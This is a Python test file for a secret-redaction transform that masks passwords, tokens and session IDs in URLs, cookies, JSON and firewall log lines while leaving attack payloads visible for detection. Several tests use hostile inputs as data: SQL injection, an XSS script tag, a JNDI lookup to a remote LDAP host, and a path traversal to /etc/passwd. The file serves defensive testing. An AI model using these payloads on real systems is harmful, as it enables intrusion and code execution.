"""Values of secret keys are gone from what enters the window; whatever an attack is in stays."""

import pytest

from transforms.anonymising.secrets import USUAL_KEYS, SecretKeys, scrub_secrets
from transforms.detection.carried import carried_payloads


def scrub(text: str, keys: SecretKeys = USUAL_KEYS) -> str:
    (scrubbed,) = scrub_secrets([text], keys, carried_payloads)
    assert scrubbed is not None
    return scrubbed


@pytest.mark.parametrize(
    ("text", "scrubbed"),
    [
        ("password=hunter2&x=1", "password={secret}&x=1"),
        ("a=1;PHPSESSID=q7n3;b=2", "a=1;PHPSESSID={secret};b=2"),
        ("GET /x;jsessionid=AB12?q=1&api_key=z HTTP/1.1", "GET /x;jsessionid={secret}?q=1&api_key={secret} HTTP/1.1"),
        ("/x;jsessionid=AB12/y", "/x;jsessionid={secret}/y"),
        ("%70assword=abc", "%70assword={secret}"),
        ("password%3Dabc", "password%3D{secret}"),
        ("user%5Bpassword%5D=abc&user[name]=x", "user%5Bpassword%5D={secret}&user[name]=x"),
        ("next=%2Flogin%3Ftoken%3Dabc%26x%3D1", "next=%2Flogin%3Ftoken%3D{secret}%26x%3D1"),
        ("q=%2526token%253Dabc", "q=%2526token%253D{secret}"),
        ("https://example.org/?u=/a?sid=12&x", "https://example.org/?u=/a?sid={secret}&x"),
        (
            "https://example.org/cb?code=xyz#access_token=abc",
            "https://example.org/cb?code={secret}#access_token={secret}",
        ),
        (
            "Old-Password=a&X-Amz-Signature=b&ASP.NET_SessionId=c",
            "Old-Password={secret}&X-Amz-Signature={secret}&ASP.NET_SessionId={secret}",
        ),
        ("passwd=a%26b+c&z=1", "passwd={secret}&z=1"),
        ("pass=æøå", "pass={secret}"),
        ("user[pin]=1&pin[]=2", "user[pin]={secret}&pin[]={secret}"),
        ("a=1;token=ab/cd", "a=1;token={secret}"),
        ("/a?x=1;token=ab/cd", "/a?x=1;token={secret}"),
        (r"pwd=a\"b&z=1", "pwd={secret}&z=1"),
        ("password[0]=x&user[pin][1]=2", "password[0]={secret}&user[pin][1]={secret}"),
        ("password%5B0%5D=x", "password%5B0%5D={secret}"),
        ("password+=x&pwd%20=y&pin%00=z", "password+={secret}&pwd%20={secret}&pin%00={secret}"),
        ("data={%22password%22:%22x%22}", "data={%22password%22:%22{secret}%22}"),
        ("data=%7B%22password%22%20%3A%22x%22%7D", "data=%7B%22password%22%20%3A%22{secret}%22%7D"),
        ("https://user:x@example.org/a", "https://user:{secret}@example.org/a"),
        ("u=https%3A%2F%2Fuser%3Ax%40y%40example.org%2Fa", "u=https%3A%2F%2Fuser%3A{secret}%40example.org%2Fa"),
        ("/a?password=hun;ter2", "/a?password={secret}"),
        ("/a?password=hun#ter2&x=1", "/a?password={secret}&x=1"),
        ("/a?password=hun;t;er2;b=2", "/a?password={secret};b=2"),
        ("PHPSESSID=q7n3; b=2; token=a;", "PHPSESSID={secret}; b=2; token={secret};"),
        ("a=1&amp;token=abc", "a=1&amp;token={secret}"),
        ('{"password":"hunter2","a":1}', '{"password":"{secret}","a":1}'),
        (r"{\"password\":\"hunter2\"}", r"{\"password\":\"{secret}\"}"),
        ('found within ARGS:password: hunter2"]', 'found within ARGS:password: {secret}"]'),
        ("variable `ARGS:password' (Value: `hunter2' )", "variable `ARGS:password' (Value: `{secret}' )"),
        (
            "Matched Data: hunter2 found within ARGS:pwd: hunter2",
            "Matched Data: {secret} found within ARGS:pwd: {secret}",
        ),
    ],
)
def test_the_value_of_a_secret_key_goes_wherever_it_stands(text: str, scrubbed: str) -> None:
    assert scrub(text) == scrubbed
    assert scrub(scrubbed) == scrubbed


@pytest.mark.parametrize(
    "text",
    [
        "keyword=abc&monkey=x&author=y&tokens=5&passage=3&side=1&pinned=2&encoded=1",
        "sid=&password",
        "state=no&hash=ab&id=7&email=x&user=ola",
        "Total Inbound Score: 40 - SQLI=0,XSS=0,SESS=0): scores",
        "/token/password/key",
        "https://example.org:8080/a?x=b@c",
        "https://example.org/a:b@c",
        "u=https://example.org:8080&x=b@c",
        "side[0]=1&tokens[1]=2&keyword+=x",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert scrub(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "token=%27%20union%20select%201,2--%20",
        "auth=%3Cscript%3Ealert(1)%3C/script%3E",
        "code=${jndi:ldap://192.0.2.1/a}",
        "password=../../../../etc/passwd",
    ],
)
def test_a_value_with_an_attack_in_it_stays(text: str) -> None:
    assert scrub(text) == text


def test_an_attack_beside_a_secret_keeps_what_shows_it_and_no_more() -> None:
    assert scrub("q=%27%20union%20select%201--&token=abc") == "q=%27%20union%20select%201--&token={secret}"
    both = "q=%27%20union%20select%201--&token=%27%20union%20select%202--"
    assert scrub(both) == both
    assert carried_payloads(["?token=*/select%201,2"]) == [0]
    whole = "q=1%20union/*&token=*/select%201,2"  # an attack only together, which a database reads past the comment
    assert scrub(whole) == whole


def test_the_policy_names_more_keys_and_shows_others() -> None:
    keys = SecretKeys(added=("member_no",), shown=("code", "member_no"))
    assert scrub("member-no=7&code=3&token=a", keys) == "member-no={secret}&code=3&token={secret}"


def test_texts_keep_their_order_and_missing_ones_are_missing() -> None:
    assert scrub_secrets(["a=1", None, "pin=1"], USUAL_KEYS, carried_payloads) == ["a=1", None, "pin={secret}"]
    assert scrub_secrets([], USUAL_KEYS, carried_payloads) == []


def test_a_hostile_text_is_searched_in_linear_time() -> None:
    for part in (
        "sid=",
        "a=",
        '"a":',
        "token=%25",
        "ARGS:a: ",
        "Matched Data: x ",
        "key=[",
        "sid=a;",
        '\\"',
        'sid="',
        "sid=;",
        "a+",
        "://",
        "://a:b",
        "[0]",
    ):
        scrub(part * (200_000 // len(part)) + "=password=x")
